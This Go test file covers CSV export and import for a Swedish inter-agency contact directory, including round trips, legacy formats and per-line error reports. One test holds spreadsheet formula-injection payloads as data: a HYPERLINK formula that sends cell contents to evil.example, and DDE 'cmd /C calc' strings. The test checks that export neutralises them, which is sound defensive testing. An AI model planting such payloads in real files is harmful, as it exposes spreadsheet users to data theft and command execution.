package csv_test

import (
	"bytes"
	"context"
	stdcsv "encoding/csv"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/samverkanshub/hub/internal/demo"
	"github.com/samverkanshub/hub/internal/directory"
	"github.com/samverkanshub/hub/internal/directory/csv"
	"github.com/samverkanshub/hub/internal/platform/csvdialect"
	"github.com/samverkanshub/hub/internal/platform/db"
	"github.com/samverkanshub/hub/internal/platform/pgtest"
)

func TestMain(m *testing.M) { pgtest.Main(m) }

type testBundle struct {
	db   *pgtest.DB
	orgs []uuid.UUID // the organisations with live entries
}

// setup loads the demo directory and gives it what the demo lacks but a
// real one has: named contact persons, two phones with their own notes,
// hours and a narrower visibility, a line break and separators in values,
// a fallback at another organisation, two functions of one name, and a
// fallback archived since.
func setup(t *testing.T) (context.Context, *testBundle) {
	t.Helper()
	ctx := context.Background()
	d := pgtest.NewDatabase(t)
	require.NoError(t, demo.LoadReference(ctx, d.Pool))
	now := time.Now()

	fk := demo.ID("org/fk")
	edit(t, d.Pool, fk, demo.ID("entry/fk-samspelet"), func(in *directory.EntryInput) {
		in.ContactPersons = []string{"Anna Ek (tis–tor)", "Bo Ström; växel 010-116 10 00"}
		in.TargetGroups = append(in.TargetGroups, `unga vuxna\16–29`)
		in.Channels = []directory.Channel{
			{Kind: directory.Phone, Value: "010-116 10 00", Note: "telefontid | för handläggare",
				OpeningHours: []directory.Hours{{Day: 2, From: "09:00", To: "11:30"}, {Day: 4, From: "09:00", To: "11:30"}},
				Visibility:   directory.Federation},
			{Kind: directory.SecureMessage, Value: "Försäkringskassan, samordningsteam Värmland", Visibility: directory.Federation},
			{Kind: directory.Phone, Value: "010-116 10 99", Note: "direkt till teamledaren",
				OpeningHours: []directory.Hours{{Day: 5, From: "08:00", To: "10:00"}, {Day: 1, From: "08:00", To: "10:00"}, {Day: 2, From: "08:00", To: "10:00"}},
				Visibility:   directory.Organisation},
			{Kind: directory.VisitingAddress, Value: "Försäkringskassan\nBox 1164, 651 11 Karlstad", Note: "besök efter överenskommelse",
				Visibility: directory.Federation},
		}
	})
	// Another function of the same name, and an entry falling back on it.
	twin := save(t, d.Pool, fk, directory.EntryInput{
		FunctionName: "Samordning av rehabilitering, Höglandet", Topics: []directory.Topic{"SJUKERSATTNING"},
		MunicipalityCodes: []string{"0686"}, Visibility: directory.Public,
		Channels: []directory.Channel{{Kind: directory.Phone, Value: "010-116 30 00", Visibility: directory.Public}},
	})
	edit(t, d.Pool, fk, demo.ID("entry/fk-nationell"), func(in *directory.EntryInput) { in.FallbackEntryID = &twin })
	// A fallback at another organisation.
	edit(t, d.Pool, demo.ID("org/karlstad"), demo.ID("entry/eb-karlstad"), func(in *directory.EntryInput) {
		fb := demo.ID("entry/fk-nationell")
		in.FallbackEntryID = &fb
		in.ContactPersons = []string{"Dagansvarig socialsekreterare"}
	})
	// A fallback archived since: the entry keeps it until someone fixes it.
	rv := demo.ID("org/region-varmland")
	vaxel := save(t, d.Pool, rv, directory.EntryInput{
		FunctionName: "Region Värmland, växel", Topics: []directory.Topic{"SAMORDNAD_REHABILITERING"},
		MunicipalityCodes: []string{"1780"}, Visibility: directory.Public,
		Channels: []directory.Channel{{Kind: directory.Phone, Value: "054-61 00 00", Visibility: directory.Public}},
	})
	edit(t, d.Pool, rv, demo.ID("entry/rv-rehab"), func(in *directory.EntryInput) { in.FallbackEntryID = &vaxel })
	_, _, err := directory.Archive(ctx, d.Pool, directory.Author{OrgID: rv, UserID: "test", At: now}, vaxel)
	require.NoError(t, err)

	b := &testBundle{db: d}
	rows, err := d.Pool.Query(ctx, `SELECT DISTINCT org_id FROM directory_entries WHERE archived_at IS NULL ORDER BY org_id`)
	require.NoError(t, err)
	b.orgs, err = pgx.CollectRows(rows, pgx.RowTo[uuid.UUID])
	require.NoError(t, err)
	require.Greater(t, len(b.orgs), 5)
	return ctx, b
}

// read returns the live entries of org with all their channels, through
// the store, as the organisation itself sees them.
func read(t *testing.T, q db.Querier, org uuid.UUID) map[uuid.UUID]entryWithChannels {
	t.Helper()
	ctx := context.Background()
	rows, err := q.Query(ctx, `SELECT id FROM directory_entries WHERE org_id = $1 AND archived_at IS NULL`, org)
	require.NoError(t, err)
	ids, err := pgx.CollectRows(rows, pgx.RowTo[uuid.UUID])
	require.NoError(t, err)
	entries, err := directory.EntriesByID(ctx, q, org, ids)
	require.NoError(t, err)
	chs, err := directory.ChannelsByEntry(ctx, q, org, ids)
	require.NoError(t, err)
	out := map[uuid.UUID]entryWithChannels{}
	for id, e := range entries {
		out[id] = entryWithChannels{e, chs[id]}
	}
	require.Len(t, out, len(ids))
	return out
}

type entryWithChannels struct {
	directory.Entry
	Channels []directory.Channel
}

func inputOf(e entryWithChannels) directory.EntryInput {
	in := directory.EntryInput{
		ID: &e.ID, UnitID: e.UnitID, FunctionName: e.FunctionName, Description: e.Description,
		TargetGroups: e.TargetGroups, MunicipalityCodes: e.MunicipalityCodes, National: e.National,
		Visibility: e.Visibility, ExpectedAnswer: e.ExpectedAnswer, FallbackEntryID: e.FallbackEntryID,
		StaffedByRoles: e.StaffedByRoles, ContactPersons: e.ContactPersons, Channels: e.Channels,
	}
	for _, t := range e.Topics {
		in.Topics = append(in.Topics, directory.Topic(t))
	}
	for _, t := range e.LeadTopics {
		in.LeadTopics = append(in.LeadTopics, directory.Topic(t))
	}
	return in
}

func edit(t *testing.T, q db.Querier, org, id uuid.UUID, change func(*directory.EntryInput)) {
	t.Helper()
	in := inputOf(read(t, q, org)[id])
	change(&in)
	save(t, q, org, in)
}

func save(t *testing.T, q db.Querier, org uuid.UUID, in directory.EntryInput) uuid.UUID {
	t.Helper()
	e, err := directory.Save(context.Background(), q, directory.Author{OrgID: org, UserID: "test", At: time.Now()}, in)
	require.NoError(t, err)
	return e.ID
}

func export(t *testing.T, q db.Querier, org uuid.UUID) string {
	t.Helper()
	var buf bytes.Buffer
	_, err := csv.Export(context.Background(), q, &org, &buf, csvdialect.Standard)
	require.NoError(t, err)
	return buf.String()
}

func importFile(t *testing.T, pool *pgxpool.Pool, org uuid.UUID, file string) (csv.ImportResult, error) {
	t.Helper()
	ctx := context.Background()
	rows, err := csv.Parse(strings.NewReader(file), csvdialect.Input{})
	if err != nil {
		return csv.ImportResult{}, err
	}
	var res csv.ImportResult
	err = pgx.BeginFunc(ctx, pool, func(tx pgx.Tx) error {
		res, err = csv.Import(ctx, tx, directory.Author{OrgID: org, UserID: "import:test.csv", At: time.Now()}, rows)
		return err
	})
	return res, err
}

func TestExportImport_RoundTripOfEveryDemoOrganisationChangesNothing(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	for _, org := range b.orgs {
		before := read(t, b.db.Pool, org)
		file := export(t, b.db.Pool, org)

		res, err := importFile(t, b.db.Pool, org, file)
		require.NoError(t, err)
		require.Equal(t, csv.ImportResult{Unchanged: len(before)}, counts(res), "org %s", org)
		require.Equal(t, file, export(t, b.db.Pool, org), "export → import → export gives the same bytes")
		require.Equal(t, before, read(t, b.db.Pool, org), "the entries, their review and their channels are as they were")
	}
}

func TestImport_OfAnExportRestoresEverythingAnEntryHas(t *testing.T) {
	t.Parallel()
	ctx, b := setup(t)
	for _, org := range []uuid.UUID{demo.ID("org/fk"), demo.ID("org/karlstad")} {
		before := read(t, b.db.Pool, org)
		file := export(t, b.db.Pool, org)

		// Someone empties the entries: what the file carries comes back.
		_, err := b.db.Pool.Exec(ctx, `UPDATE directory_entries SET unit_id = NULL, description = '', lead_topics = '{}',
			target_groups = '{}', expected_answer = NULL, fallback_entry_id = NULL, staffed_by_roles = '{}',
			contact_persons = '{}' WHERE org_id = $1`, org)
		require.NoError(t, err)
		_, err = b.db.Pool.Exec(ctx, `DELETE FROM directory_channels WHERE org_id = $1`, org)
		require.NoError(t, err)

		res, err := importFile(t, b.db.Pool, org, file)
		require.NoError(t, err)
		require.Equal(t, csv.ImportResult{Changed: len(before)}, counts(res))
		require.Equal(t, file, export(t, b.db.Pool, org))
		after := read(t, b.db.Pool, org)
		for id, e := range before {
			got := after[id]
			require.Equal(t, "import:test.csv", got.ReviewedBy, "saving counts as a review")
			got.ReviewedAt, got.ReviewedBy = e.ReviewedAt, e.ReviewedBy
			for i := range got.Channels {
				got.Channels[i].ID = e.Channels[i].ID
			}
			require.Equal(t, e, got)
		}
	}

	// What the round trip carried, spelled out.
	fk := read(t, b.db.Pool, demo.ID("org/fk"))[demo.ID("entry/fk-samspelet")]
	require.Equal(t, []string{"Anna Ek (tis–tor)", "Bo Ström; växel 010-116 10 00"}, fk.ContactPersons)
	require.Equal(t, []string{"nollplacerade", "unga vuxna", `unga vuxna\16–29`}, fk.TargetGroups)
	require.Len(t, fk.Channels, 4)
	require.Equal(t, []directory.ChannelKind{directory.Phone, directory.SecureMessage, directory.Phone, directory.VisitingAddress},
		[]directory.ChannelKind{fk.Channels[0].Kind, fk.Channels[1].Kind, fk.Channels[2].Kind, fk.Channels[3].Kind})
	require.Equal(t, "telefontid | för handläggare", fk.Channels[0].Note)
	require.Equal(t, directory.Organisation, fk.Channels[2].Visibility)
	require.Equal(t, []directory.Hours{{Day: 5, From: "08:00", To: "10:00"}, {Day: 1, From: "08:00", To: "10:00"}, {Day: 2, From: "08:00", To: "10:00"}},
		fk.Channels[2].OpeningHours)
	require.Equal(t, "Försäkringskassan\nBox 1164, 651 11 Karlstad", fk.Channels[3].Value)
	eb := read(t, b.db.Pool, demo.ID("org/karlstad"))[demo.ID("entry/eb-karlstad")]
	require.Equal(t, demo.ID("entry/fk-nationell"), *eb.FallbackEntryID, "a fallback at another organisation")
}

func TestExportImport_CellsASpreadsheetWouldRunAreQuotedAndComeBackByteForByte(t *testing.T) {
	t.Parallel()
	ctx, b := setup(t)
	org := demo.ID("org/karlstad")
	// Formulas, values that only look like them, and values that start
	// with the quote itself.
	values := []string{
		`=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)`,
		`+1+cmd|' /C calc'!A0`, `-2+3`, `+46 771 524 524`, `'t Hooft`, `''två citattecken`, `'=1+1`,
	}
	var fallback *uuid.UUID
	for _, v := range values {
		id := save(t, b.db.Pool, org, directory.EntryInput{
			FunctionName: v, Description: v, Topics: []directory.Topic{"EKONOMISKT_BISTAND"}, TargetGroups: []string{v, "unga vuxna"},
			MunicipalityCodes: []string{"1780"}, Visibility: directory.Federation, ExpectedAnswer: &v,
			FallbackEntryID: fallback, ContactPersons: []string{v},
			Channels: []directory.Channel{{Kind: directory.Phone, Value: "+46 771 524 524", Note: v, Visibility: directory.Federation}},
		})
		fallback = &id // the next falls back on this one, written by its name
	}
	// A tab or carriage return at the start of a description or expected
	// answer comes back too (list items and names are trimmed).
	tab, cr := "\t=1+1", "\r=1+1"
	save(t, b.db.Pool, org, directory.EntryInput{
		FunctionName: "Blanksteg först", Description: tab, Topics: []directory.Topic{"EKONOMISKT_BISTAND"},
		MunicipalityCodes: []string{"1780"}, Visibility: directory.Federation, ExpectedAnswer: &cr,
	})

	before := read(t, b.db.Pool, org)
	file := export(t, b.db.Pool, org)
	byName := map[string][]string{}
	for _, r := range records(t, file)[1:] {
		for j, cell := range r {
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "column %s: %q", csv.Header[j], cell)
			}
		}
		byName[r[0]] = r
	}
	for _, v := range values {
		require.Equal(t, "'"+v, byName["'"+v][slices.Index(csv.Header, "description")], "export quotes %q", v)
	}
	require.Contains(t, byName, "'+46 771 524 524")
	require.Contains(t, byName, "''t Hooft", "a value starting with ' gets another")

	// Emptied, the entries come back from the file byte for byte.
	_, err := b.db.Pool.Exec(ctx, `UPDATE directory_entries SET function_name = 'tömd ' || id, description = '',
		target_groups = '{}', expected_answer = NULL, fallback_entry_id = NULL, contact_persons = '{}' WHERE org_id = $1`, org)
	require.NoError(t, err)
	_, err = b.db.Pool.Exec(ctx, `DELETE FROM directory_channels WHERE org_id = $1`, org)
	require.NoError(t, err)
	res, err := importFile(t, b.db.Pool, org, file)
	require.NoError(t, err)
	require.Equal(t, csv.ImportResult{Changed: len(before)}, counts(res))
	after := read(t, b.db.Pool, org)
	for id, e := range before {
		got := after[id]
		got.ReviewedAt, got.ReviewedBy = e.ReviewedAt, e.ReviewedBy
		for i := range got.Channels {
			got.Channels[i].ID = e.Channels[i].ID
		}
		require.Equal(t, e, got)
	}
	require.Equal(t, file, export(t, b.db.Pool, org), "export → import → export gives the same bytes")
}

func TestImport_TakesOffExactlyOneLeadingQuoteOfACell(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	org := demo.ID("org/karlstad")
	cases := []struct{ cell, value, why string }{
		{`'+46 771 524 524`, `+46 771 524 524`, "as export writes it"},
		{`+46 771 524 524`, `+46 771 524 524`, "a spreadsheet that dropped the quote"},
		{`'=1+1`, `=1+1`, "as export writes it"},
		{`=1+1`, `=1+1`, "a spreadsheet that dropped the quote"},
		{`''t Hooft`, `'t Hooft`, "as export writes a value starting with '"},
		{`'t Hooft`, `t Hooft`, "a spreadsheet that dropped one of the two quotes: the value's own is lost"},
		{`  '-1  `, `-1`, "spaces around the cell go first"},
		{"'\t-1", "\t-1", "what follows the quote is the value as it is"},
		{`a'b`, `a'b`, "only the start of a cell counts"},
	}
	recs := [][]string{{"function_name", "description", "topics", "municipality_codes", "visibility"}}
	for i, c := range cases {
		recs = append(recs, []string{fmt.Sprintf("Citat %d", i), c.cell, "SIP", "1780", "PUBLIC"})
	}
	_, err := importFile(t, b.db.Pool, org, writeRecords(t, recs))
	require.NoError(t, err)
	description := map[string]string{}
	for _, e := range read(t, b.db.Pool, org) {
		description[e.FunctionName] = e.Description
	}
	for i, c := range cases {
		require.Equal(t, c.value, description[fmt.Sprintf("Citat %d", i)], "%q: %s", c.cell, c.why)
	}
}

func TestExport_WritesEveryChannelOnItsOwnLineOfTheChannelsCell(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	file := export(t, b.db.Pool, demo.ID("org/fk"))
	require.True(t, strings.HasPrefix(file, strings.Join(csv.Header, ",")+"\n"))
	for _, want := range []string{
		`"phone: 010-116 10 00 | hours: tis 09:00-11:30; tor 09:00-11:30 | note: telefontid \| för handläggare` + "\n" +
			"secure_message: Försäkringskassan, samordningsteam Värmland\n" +
			"phone: 010-116 10 99 | hours: fre 08:00-10:00; mån-tis 08:00-10:00 | note: direkt till teamledaren | visibility: ORGANISATION\n" +
			`visiting_address: Försäkringskassan\nBox 1164, 651 11 Karlstad | note: besök efter överenskommelse"`,
		`Anna Ek (tis–tor);Bo Ström\; växel 010-116 10 00`,
		`nollplacerade;unga vuxna;unga vuxna\\16–29`,
	} {
		require.Contains(t, file, want)
	}
	fallback := slices.Index(csv.Header, "fallback")
	for _, r := range records(t, file)[1:] {
		switch r[0] {
		case "Försäkringskassan, samverkanspartner (nationellt)":
			require.Regexp(t, "^[0-9a-f-]{36}$", r[fallback], "two functions have the name of its fallback: it is written by id")
		case "Samordning av rehabilitering för personer utan SGI":
			require.Equal(t, "Försäkringskassan, samverkanspartner (nationellt)", r[fallback])
		}
	}
	require.Equal(t, 1, strings.Count(file, "Samordning av rehabilitering för personer utan SGI"))
}

// oldHeader is the header of the first format, before contact persons,
// channel notes, channel visibility and more than one channel of a kind.
var oldHeader = []string{
	"function_name", "unit", "topics", "lead_topics", "target_groups", "municipality_codes", "national",
	"visibility", "expected_answer", "fallback", "staffed_by_roles", "phone", "phone_hours",
	"funktionsbrevlada", "secure_message", "visiting_address", "on_site", "on_site_hours", "description",
}

func TestImport_KeepsWhatAnOldFileDoesNotMention(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	fk := demo.ID("org/fk")
	id := demo.ID("entry/fk-samspelet")
	before := read(t, b.db.Pool, fk)[id]

	// The line as the first format exported it, with another number and
	// other hours for the phone.
	line := []string{
		before.FunctionName, "Försäkringskassan Karlstad", strings.Join(before.Topics, ";"), strings.Join(before.LeadTopics, ";"),
		strings.Join(before.TargetGroups, ";"), strings.Join(before.MunicipalityCodes, ";"), "nej",
		"FEDERATION", *before.ExpectedAnswer, "Försäkringskassan, samverkanspartner (nationellt)", strings.Join(before.StaffedByRoles, ";"),
		"010-116 11 11", "mån-fre 09:00-11:00", "", before.Channels[1].Value, before.Channels[3].Value, "", "", before.Description,
	}
	res, err := importFile(t, b.db.Pool, fk, writeRecords(t, [][]string{oldHeader, line}))
	require.NoError(t, err)
	require.Equal(t, csv.ImportResult{Changed: 1}, counts(res))

	got := read(t, b.db.Pool, fk)[id]
	require.Equal(t, "010-116 11 11", got.Channels[0].Value)
	require.Equal(t, weekdays("09:00", "11:00"),
		got.Channels[0].OpeningHours)
	// Everything else is as it was: the contact persons, the phone's note,
	// the second phone with its narrower visibility, the order.
	got.ReviewedAt, got.ReviewedBy = before.ReviewedAt, before.ReviewedBy
	got.Channels[0].Value, got.Channels[0].OpeningHours = before.Channels[0].Value, before.Channels[0].OpeningHours
	for i := range got.Channels {
		got.Channels[i].ID = before.Channels[i].ID
	}
	require.Equal(t, before, got)

	// Narrowing the entry narrows the channels that followed it; an empty
	// column removes the first channel of its kind, and only that one.
	_, err = importFile(t, b.db.Pool, fk, "function_name,visibility,phone\n"+before.FunctionName+",ORGANISATION,\n")
	require.NoError(t, err)
	got = read(t, b.db.Pool, fk)[id]
	require.Len(t, got.Channels, 3)
	require.Equal(t, "010-116 10 99", got.Channels[1].Value)
	for _, c := range got.Channels {
		require.Equal(t, directory.Organisation, c.Visibility)
	}
	require.Equal(t, before.ContactPersons, got.ContactPersons)
}

func TestImport_AnIdSaysWhichEntryALineIs(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	fk := demo.ID("org/fk")
	id := demo.ID("entry/fk-hoglandet")
	file := export(t, b.db.Pool, fk)

	// Renaming keeps the entry.
	recs := records(t, file)
	for _, r := range recs[1:] {
		if r[len(r)-1] == id.String() {
			r[0] = "Samordnad rehabilitering Höglandet (Eksjö och Nässjö)"
		}
	}
	res, err := importFile(t, b.db.Pool, fk, writeRecords(t, recs))
	require.NoError(t, err)
	require.Equal(t, 1, res.Changed)
	require.Equal(t, "Samordnad rehabilitering Höglandet (Eksjö och Nässjö)", read(t, b.db.Pool, fk)[id].FunctionName)

	// Now one entry has the old name: a line without an id is that entry,
	// and a fallback may name the renamed one by its new name.
	res, err = importFile(t, b.db.Pool, fk, "function_name,description,topics,visibility,municipality_codes,fallback\n"+
		"\"Samordning av rehabilitering, Höglandet\",Ny text,SJUKERSATTNING,PUBLIC,0686,\n"+
		"Ny kontakt,,SIP,PUBLIC,0686,Samordnad rehabilitering Höglandet (Eksjö och Nässjö)\n")
	require.NoError(t, err)
	require.Equal(t, csv.ImportResult{Added: 1, Changed: 1}, counts(res))
	names := map[string][]entryWithChannels{}
	for _, e := range read(t, b.db.Pool, fk) {
		names[e.FunctionName] = append(names[e.FunctionName], e)
	}
	require.Len(t, names["Samordning av rehabilitering, Höglandet"], 1)
	require.Equal(t, "Ny text", names["Samordning av rehabilitering, Höglandet"][0].Description)
	require.Len(t, names["Ny kontakt"], 1)
	require.Equal(t, id, *names["Ny kontakt"][0].FallbackEntryID)
}

func TestImport_ReportsWhatOnlyTheHubCanTellAndChangesNothing(t *testing.T) {
	t.Parallel()
	_, b := setup(t)
	fk := demo.ID("org/fk")
	other := demo.ID("entry/eb-karlstad").String()
	for _, c := range []struct {
		name, file string
		lines      int
		want       []string
	}{
		{"an id that is no live entry of the organisation",
			"function_name,topics,visibility,id\nNy funktion,SIP,PUBLIC," + other + "\n", 1,
			[]string{"line 2: id " + other + " is no live entry of this organisation"}},
		{"a name two live entries have, without an id",
			"function_name,description\n\"Samordning av rehabilitering, Höglandet\",ny text\n", 1,
			[]string{`line 2: 2 live entries are called "Samordning av rehabilitering, Höglandet"; write the id`}},
		{"a fallback named by a name two functions have",
			"function_name,fallback\n\"Försäkringskassan, samverkanspartner (nationellt)\",\"Samordning av rehabilitering, Höglandet\"\n", 1,
			[]string{`line 2: fallback "Samordning av rehabilitering, Höglandet" names 2 functions of this organisation; write the fallback's id`}},
		{"an unknown unit and an unknown fallback",
			"function_name,unit,fallback\n\"Försäkringskassan, samverkanspartner (nationellt)\",Huvudkontoret,Växeln\n", 2,
			[]string{`line 2: unknown unit "Huvudkontoret" of this organisation`, `line 2: fallback "Växeln" is no function of this organisation`}},
		{"a new entry without what every entry needs",
			"function_name\nNy funktion\n", 1,
			[]string{"line 2: visibility must be PUBLIC, FEDERATION or ORGANISATION", "topics must name at least one topic"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := export(t, b.db.Pool, fk)
			_, err := importFile(t, b.db.Pool, fk, c.file)
			requireLines(t, err, c.lines, c.want...)
			require.Equal(t, before, export(t, b.db.Pool, fk), "nothing imported")
		})
	}
}

// requireLines requires an import error of so many lines that says want.
func records(t *testing.T, file string) [][]string {
	t.Helper()
	recs, err := stdcsv.NewReader(strings.NewReader(file)).ReadAll()
	require.NoError(t, err)
	return recs
}

func writeRecords(t *testing.T, recs [][]string) string {
	t.Helper()
	var buf bytes.Buffer
	require.NoError(t, stdcsv.NewWriter(&buf).WriteAll(recs))
	return buf.String()
}

func requireLines(t *testing.T, err error, lines int, want ...string) {
	t.Helper()
	var ie *csv.ImportError
	require.True(t, errors.As(err, &ie), "want an ImportError, got %v", err)
	for _, w := range want {
		require.ErrorContains(t, err, w)
	}
	require.Len(t, ie.Lines, lines, "%v", err)
}

func weekdays(from, to string) []directory.Hours {
	var hs []directory.Hours
	for d := 1; d <= 5; d++ {
		hs = append(hs, directory.Hours{Day: d, From: from, To: to})
	}
	return hs
}

// full is an import line with every column, as export writes it, changed
// by set.
func full(set map[string]string) []string {
	cells := map[string]string{
		"function_name": "Ekonomiskt bistånd Grums", "topics": "EKONOMISKT_BISTAND", "municipality_codes": "1764",
		"national": "nej", "visibility": "FEDERATION", "channels": "funktionsbrevlada: eb@grums.example",
	}
	for k, v := range set {
		cells[k] = v
	}
	line := make([]string, len(csv.Header))
	for i, h := range csv.Header {
		line[i] = cells[h]
	}
	return line
}

func TestParseCSV_ReportsEveryMalformedCellByLine(t *testing.T) {
	t.Parallel()
	header := csv.Header
	id := "0b9c6c55-5d0e-4a57-9d3e-1f0a3c6a2b11"
	for _, c := range []struct {
		name string
		recs [][]string
		want []string // one problem each, in order
	}{
		{"a well-formed file",
			[][]string{header, full(nil), full(map[string]string{"function_name": "Växeln", "channels": "phone: 0555-420 00 | hours: mån-fre 08:00-16:00 | note: växel\nvisiting_address: Box 1\\n Grums | visibility: ORGANISATION"})},
			nil},
		{"an unknown column, and one twice",
			[][]string{{"function_name", "namn", "topics", "topics"}},
			[]string{`line 1: unknown column "namn"; column "topics" comes twice`}},
		{"no function_name",
			[][]string{{"topics"}},
			[]string{"line 1: the column function_name is required"}},
		{"channels both ways",
			[][]string{{"function_name", "channels", "phone"}},
			[]string{"line 1: give channels either in the column channels or in the columns phone, phone_hours, …, not both"}},
		{"hours without their channel column",
			[][]string{{"function_name", "on_site_hours"}},
			[]string{"line 1: the column on_site_hours needs the column on_site"}},
		{"a channel of no known kind",
			[][]string{header, full(map[string]string{"channels": "fax: 054-10 10 10"})},
			[]string{`line 2: channels[0]: "fax: 054-10 10 10" does not start with a kind (phone:, funktionsbrevlada:, secure_message:, visiting_address:, on_site:)`}},
		{"a channel without a kind",
			[][]string{header, full(map[string]string{"channels": "funktionsbrevlada: eb@grums.example\n0555-420 00"})},
			[]string{`line 2: channels[1]: "0555-420 00" does not start with a kind`}},
		{"an unknown part, a part twice, a | not escaped",
			[][]string{header, full(map[string]string{"channels": "phone: 0555-420 00 | tider: mån 08:00-12:00 | note: a | note: b\nvisiting_address: Box 1 | Grums"})},
			[]string{
				`line 2: channels[0]: "tider: mån 08:00-12:00" is not "hours: …", "note: …" or "visibility: …" (write a | inside a value as \|)`,
				"line 2: channels[0]: gives note twice",
				`line 2: channels[1]: "Grums" is not "hours: …"`,
			}},
		{"bad hours and visibility in a channel",
			[][]string{header, full(map[string]string{"channels": "phone: 0555-420 00 | hours: måndag 8-12 | visibility: ALLA"})},
			[]string{
				`line 2: channels[0]: days "måndag" are not like mån, tis, … or mån-fre`,
				`line 2: channels[0]: visibility must be PUBLIC, FEDERATION or ORGANISATION, got "ALLA"`,
			}},
		{"a bad phone number and a channel wider than its entry",
			[][]string{header, full(map[string]string{"channels": "phone: ring Anna\nfunktionsbrevlada: eb@grums.example | visibility: PUBLIC"})},
			[]string{`line 2: channels[0]: "ring Anna" is not a phone number (digits, spaces, + and -; 5–15 digits); channels[1]: visibility PUBLIC is wider than the entry's FEDERATION`}},
		{"an id that is none, and one twice",
			[][]string{header, full(map[string]string{"id": "42"}), full(map[string]string{"function_name": "A", "id": id}), full(map[string]string{"function_name": "B", "id": id})},
			[]string{`line 2: id "42" is not an entry's id (leave it empty for a new entry)`, "line 4: duplicate id " + id + " (also on line 3)"}},
		{"one name twice is fine when both lines have ids, not otherwise",
			[][]string{header, full(map[string]string{"id": id}), full(map[string]string{"id": "1d6f2c0e-8a51-4a8e-a7f4-2e9d5d1b8c22"}), full(nil)},
			[]string{`line 4: duplicate function "Ekonomiskt bistånd Grums" (also on line 3)`}},
		{"an unknown lead topic",
			[][]string{header, full(map[string]string{"lead_topics": "FIKA"})},
			[]string{`line 2: unknown topic "FIKA"`, "line 2: leadTopics: FIKA is not among the entry's topics"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			var buf bytes.Buffer
			require.NoError(t, stdcsv.NewWriter(&buf).WriteAll(c.recs))
			_, err := csv.Parse(&buf, csvdialect.Input{})
			if c.want == nil {
				require.NoError(t, err)
				return
			}
			var ie *csv.ImportError
			require.True(t, errors.As(err, &ie), "want an ImportError, got %v", err)
			require.Len(t, ie.Lines, len(c.want), "%v", err)
			for i, w := range c.want {
				require.True(t, strings.HasPrefix(ie.Lines[i].Error(), w), "problem %d: got %q, want %q…", i, ie.Lines[i].Error(), w)
			}
		})
	}
}

// counts is what an import did, without which entries it saved.
func counts(res csv.ImportResult) csv.ImportResult {
	res.Saved = nil
	return res
}
